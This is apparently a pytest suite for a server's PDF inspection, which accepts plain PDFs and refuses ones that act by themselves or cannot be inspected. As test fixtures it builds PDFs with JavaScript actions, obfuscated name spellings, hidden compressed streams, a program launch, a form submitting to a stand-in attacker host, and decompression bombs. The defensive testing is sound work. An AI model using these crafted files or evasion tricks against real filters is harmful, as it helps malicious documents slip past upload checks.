"""DOC-1: a PDF that does something by itself is not taken, however it is spelled and wherever it lies."""

import zlib

import pytest

from server.domain import pdf_inspection
from server.domain.errors import InvalidInput
from server.domain.file_inspection import BLOCK, LARGEST_FILE, Inspection

HEAD, END = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", b"\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf(*objects: bytes) -> bytes:
    return HEAD + b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in enumerate(objects, 1)) + END


def packed(inside: bytes, *, dictionary: bytes = b"/Type /ObjStm /Filter /FlateDecode", level: int = 9) -> bytes:
    """An object stream with these objects."""
    data = zlib.compress(inside, level)
    return b"<< %s /N 1 /First 4 /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def inspect(file: bytes, block: int = BLOCK) -> str:
    inspection = Inspection()
    for start in range(0, len(file), block):
        inspection.feed(file[start : start + block])
    return inspection.finish()


HARMLESS = {
    "a page": pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "that opens at a page": pdf(b"<< /Type /Catalog /OpenAction [2 0 R /Fit] >>"),
    "with an address to visit": pdf(b"<< /A << /S /URI /URI (https://acme.example) >> >>"),
    "with an invoice in it": pdf(b"<< /Type /EmbeddedFile /Subtype /text#2Fxml /Length 4 >>\nstream\n<a/>\nendstream"),
    "packed": pdf(packed(b"2 0 << /Type /Pages /Kids [] /Count 0 >>"), packed(b"3 0 << /Type /Page >>")),
    "that tells of scripts": pdf(b"(we use no /JavaScripts, and launch nothing)"),
    "of compressed pictures": pdf(b"<< /Filter /FlateDecode /Length 9 >>\nstream\n" + zlib.compress(b"x" * 99)),
    "packed, after another filter": pdf(b"<< /DecodeParms << /Predictor 12 >> >>", packed(b"3 0 << /Type /Page >>")),
}
ACTS = {
    "a script": pdf(SCRIPT),
    "a script, spelled otherwise": pdf(SCRIPT.replace(b"JavaScript", b"#4aava#53cript")),
    "a script, in capitals of hexadecimal": pdf(SCRIPT.replace(b"JavaScript", b"#4AavaScrip#74")),
    "a script, without space": pdf(b"<</S/JavaScript/JS(x)>>"),
    "a program": pdf(b"<< /S /Launch /F (calc.exe) >>"),
    "a form that sends": pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"),
    "a form that fetches": pdf(b"<< /S /ImportData /F (x) >>"),
    "a file that opens": pdf(b"<< /S /GoToE /T << >> >>"),
    "a player": pdf(b"<< /Subtype /RichMedia >>"),
    "a rendition": pdf(b"<< /S /Rendition /OP 0 >>"),
    "an XFA form": pdf(b"<< /AcroForm << /XFA 9 0 R >> >>"),
    "a packed script": pdf(packed(b"2 0 " + SCRIPT)),
    "a packed script after much else": pdf(packed(b"2 0 " + b"<< /Type /Page >> " * 20_000 + SCRIPT)),
    "a packed script, merely stored": pdf(packed(b"2 0 " + b"x" * 100 + SCRIPT, level=0)),
    "a name at the end of a pack": pdf(packed(b"2 0 << /S /JavaScript")),
    "a script in the second pack": pdf(packed(b"2 0 << >>"), packed(b"3 0 " + SCRIPT)),
    "a script behind a pack": pdf(packed(b"2 0 << >>"), SCRIPT),
    "a pack by another name": pdf(
        packed(b"2 0 " + SCRIPT, dictionary=b"/Type /Obj#53tm /Filter [/#46lateDecode] /DecodeParms null")
    ),
}
UNREADABLE = {
    "encrypted": pdf(b"<< /Type /Catalog >>").replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R"),
    "packed twice": pdf(packed(b"x", dictionary=b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")),
    "packed by another way": pdf(packed(b"x", dictionary=b"/Type /ObjStm /Filter /LZWDecode")),
    "predicted": pdf(packed(b"x", dictionary=b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
    "a pack that is none": pdf(b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot deflated\nendstream"),
    "a pack that does not end": pdf(packed(b"x" * 5000, level=0)[:3000]),
    "a pack that is not packed": pdf(b"<< /Type /ObjStm >>\nstream\n2 0 << >>\nendstream"),
    "a pack far from its stream": pdf(b"<< /Type /ObjStm %" + b"x" * 5000 + b"\n/Filter /FlateDecode >>\nstream\n"),
    "a pack without a stream": pdf(b"<< /Type /ObjStm >>"),
    "a bomb": pdf(packed(b" " * (pdf_inspection.INFLATED + 1))),
    "many small bombs": pdf(*[packed(b" " * (pdf_inspection.INFLATED // 8)) for _ in range(9)]),
}


@pytest.mark.parametrize("block", [BLOCK, 997])
@pytest.mark.parametrize("file", HARMLESS.values(), ids=HARMLESS)
def test_doc_1_an_ordinary_pdf_is_taken(file: bytes, block: int) -> None:
    assert inspect(file, block) == "application/pdf"


@pytest.mark.parametrize("block", [BLOCK, 997, 64])
@pytest.mark.parametrize("file", ACTS.values(), ids=ACTS)
def test_doc_1_a_pdf_that_acts_by_itself_is_refused(file: bytes, block: int) -> None:
    with pytest.raises(InvalidInput) as refused:
        inspect(file, block)
    assert "by itself" in refused.value.message("en")
    assert "uit zichzelf" in refused.value.message("nl")


@pytest.mark.parametrize("block", [BLOCK, 997])
@pytest.mark.parametrize("file", UNREADABLE.values(), ids=UNREADABLE)
def test_doc_1_a_pdf_that_cannot_be_looked_into_is_refused(file: bytes, block: int) -> None:
    with pytest.raises(InvalidInput) as refused:
        inspect(file, block)
    assert "looked into" in refused.value.message("en")


def test_doc_1_no_more_is_inflated_than_the_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    """A bomb of 5 MB would be 5 GB."""
    inflated, decompressobj = [], zlib.decompressobj

    class Counting:
        def __init__(self) -> None:
            self.inner = decompressobj()

        def decompress(self, block: bytes, most: int) -> bytes:
            some = self.inner.decompress(block, most)
            inflated.append(len(some))
            return some

        def __getattr__(self, name: str) -> object:
            return getattr(self.inner, name)

    monkeypatch.setattr(pdf_inspection.zlib, "decompressobj", Counting)
    bomb = pdf(packed(b" " * (LARGEST_FILE * 20)))
    with pytest.raises(InvalidInput):
        inspect(bomb)
    assert sum(inflated) == pdf_inspection.INFLATED + 1
